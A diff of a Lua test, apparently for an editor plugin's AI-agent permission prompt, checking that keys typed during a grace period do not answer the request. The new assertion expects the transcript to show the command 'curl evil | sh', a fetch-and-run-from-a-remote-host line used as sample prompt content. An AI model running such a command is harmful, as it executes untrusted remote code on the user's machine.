@@ -94,7 +94,7 @@ return {
     T.eq(#permission_answers(paths), 0, 'the agent got no answer')
     -- `ahi<Esc>` then `i1yan<Esc>` before the 'i': the keys went to the file.
     T.match(table.concat(child:buf_lines(0), '\n'), '^xh1yan.*i$', 'the keys went to the file')
-    T.match(H.transcript_text(child), ' · waiting for you\n')
+    T.contains(H.transcript_text(child), 'curl evil | sh · waiting for you')
   end },
 
   { 'keys inside the float do nothing during the grace period; it restarts for the next request', function()
